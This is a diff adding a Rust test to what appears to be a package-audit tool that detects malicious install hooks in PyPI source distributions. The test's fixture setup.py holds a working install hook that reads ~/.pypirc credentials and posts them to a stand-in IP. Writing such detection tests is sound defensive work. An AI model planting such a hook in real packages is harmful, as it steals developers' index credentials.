@@ -937,3 +937,148 @@ fn a_new_startup_hook_blocks_and_a_long_standing_one_is_not_raised() {
     );
     assert!(evidence(hooks[0], "new-since").is_none(), "{report}");
 }
+
+/// Serves one release with several files: (filename, bytes).
+fn serve_files(server: &crate::server::Server, name: &str, files: &[(&str, Vec<u8>)]) {
+    use crate::server::Reply;
+    let list: Vec<serde_json::Value> = files
+        .iter()
+        .map(|(filename, bytes)| {
+            server.route(
+                &format!("/files/{filename}"),
+                vec![Reply::json(bytes.clone()).header("Content-Type", "application/octet-stream")],
+            );
+            serde_json::json!({
+                "filename": filename,
+                "url": format!("/files/{filename}"),
+                "digests": {"sha256": sha256_hex(bytes)},
+                "upload_time_iso_8601": "2025-01-01T00:00:00Z",
+                "yanked": false,
+                "size": bytes.len(),
+                "packagetype": if filename.ends_with(".whl") { "bdist_wheel" } else { "sdist" }
+            })
+        })
+        .collect();
+    let doc = serde_json::json!({
+        "info": {"name": name, "project_urls": {"Source": "https://git.example/x"}},
+        "releases": {"1.0": list}
+    });
+    server.route(
+        &format!("/pypi/{name}/json"),
+        vec![Reply::json(doc.to_string())],
+    );
+}
+
+#[test]
+fn the_sdist_is_scanned_only_where_an_installer_could_build_it() {
+    let server = crate::server::Server::start();
+    let tmp = tempfile::tempdir().unwrap();
+    let setup = b"import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        data = open(os.path.expanduser('~/.pypirc')).read()\n        requests.post('http://203.0.113.9/collect', data=data)\n        install.run(self)\n\nsetup(name='inert', cmdclass={'install': Hook})\n";
+    let wheel_bytes = |name: &str| {
+        let w = wheel(
+            tmp.path(),
+            name,
+            &[
+                ("inert/__init__.py", b"VALUE = 1\n"),
+                ("inert-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
+            ],
+        );
+        std::fs::read(w).unwrap()
+    };
+    let sdist = |top: &str| {
+        crate::common::targz_bytes(&[
+            (&format!("{top}/setup.py"), setup),
+            (&format!("{top}/inert/__init__.py"), b"VALUE = 1\n"),
+        ])
+    };
+    // `purepkg` locks a pure wheel: installers take it, the sdist is never
+    // built. `binpkg` has only a Linux wheel: elsewhere the sdist is built.
+    serve_files(
+        &server,
+        "purepkg",
+        &[
+            ("purepkg-1.0.tar.gz", sdist("purepkg-1.0")),
+            ("purepkg-1.0-py3-none-any.whl", wheel_bytes("p.whl")),
+        ],
+    );
+    serve_files(
+        &server,
+        "binpkg",
+        &[
+            ("binpkg-1.0.tar.gz", sdist("binpkg-1.0")),
+            (
+                "binpkg-1.0-cp312-cp312-manylinux_2_17_x86_64.whl",
+                wheel_bytes("b.whl"),
+            ),
+        ],
+    );
+    std::fs::write(
+        tmp.path().join("requirements.txt"),
+        "purepkg==1.0\nbinpkg==1.0\n",
+    )
+    .unwrap();
+    let audit = |extra: &[&str]| {
+        let mut cmd = customs(tmp.path());
+        cmd.args([
+            "audit",
+            "--format",
+            "json",
+            "--no-provenance",
+            "--index-url",
+            &server.index_url(),
+            "--cache-dir",
+            tmp.path().join("cache").to_str().unwrap(),
+        ]);
+        cmd.args(extra).arg("requirements.txt");
+        let (code, out, err) = run(&mut cmd);
+        assert!(code == 0 || code == 1, "{err}");
+        json(&out)
+    };
+    let hooks = |report: &serde_json::Value| -> Vec<String> {
+        let mut v: Vec<String> = report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|f| f["rule"] == "install-hook")
+            .map(|f| f["package"].as_str().unwrap().to_string())
+            .collect();
+        v.sort();
+        v
+    };
+    let scan_of = |report: &serde_json::Value, name: &str| {
+        report["packages"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|p| p["name"] == name)
+            .unwrap()["scan"]
+            .clone()
+    };
+    let report = audit(&[]);
+    assert_eq!(hooks(&report), ["binpkg"], "{report}");
+    let pure = scan_of(&report, "purepkg");
+    assert_eq!(pure["status"], "scanned");
+    assert_eq!(
+        pure["archives"],
+        serde_json::json!(["purepkg-1.0-py3-none-any.whl"])
+    );
+    assert!(
+        pure["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("purepkg-1.0.tar.gz not scanned: installers take the pure wheel"),
+        "{pure}"
+    );
+    assert_eq!(server.hits("/files/purepkg-1.0.tar.gz"), 0);
+    assert_eq!(
+        scan_of(&report, "binpkg")["archives"]
+            .as_array()
+            .unwrap()
+            .len(),
+        2
+    );
+    // --scan-sdists scans it too.
+    let report = audit(&["--scan-sdists"]);
+    assert_eq!(hooks(&report), ["binpkg", "purepkg"], "{report}");
+    assert_eq!(server.hits("/files/purepkg-1.0.tar.gz"), 1);
+}
